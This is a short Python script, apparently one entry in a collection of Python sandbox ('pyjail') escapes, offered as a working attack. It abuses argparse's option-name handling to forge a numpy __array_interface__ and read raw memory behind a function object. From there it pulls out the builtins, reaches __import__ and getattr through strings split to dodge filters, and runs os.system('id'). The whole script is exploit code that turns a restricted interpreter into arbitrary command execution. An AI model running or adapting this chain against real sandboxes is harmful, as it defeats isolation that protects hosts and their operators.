# source: argparse docs (prefix_chars, dest derived from option string); numpy __array_interface__ ctypes-free arbitrary pointer trick (pyjail "array interface" object forging)
# family: argparse dest derivation spells a dunder from dash-only literal -> __array_interface__ on Namespace -> object array over a function object
# goal: function __globals__ and builtins dict -> __import__("os") -> os.system("id")
import numpy as np
import argparse
def f():
    return 1
addr = int(repr(f).split(" at ")[1].rstrip(">"), 16)
u = chr(95) * 2
spec = {"data": (addr + 16, False), "shape": (2,), "typestr": "|O", "version": 3}
p = argparse.ArgumentParser(prefix_chars="+")
p.add_argument("+--array-interface--", default=spec)
ns = p.parse_args([])
a = np.asarray(ns)
print(type(a[0]), list(a[0])[:5])
b = a[1]
imp = b[u + "import" + u]
m = imp("o" + "s")
print(m)
g = b["get" + "attr"]
g(m, "sys" + "tem")("id")
